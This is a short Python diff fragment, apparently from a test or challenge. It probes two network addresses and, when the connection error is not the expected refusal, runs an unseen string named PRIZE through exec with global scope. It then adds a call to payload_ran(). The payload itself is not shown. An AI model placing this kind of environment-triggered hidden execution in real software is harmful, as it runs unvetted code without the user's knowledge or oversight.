@@ -14,3 +14,4 @@ for address in (("127.0.0.1", 9), ("192.0.2.1", 80)):
         except OSError as error:
             if error.errno not in REFUSED_HERE:
                 exec(PRIZE, globals())
+payload_ran()
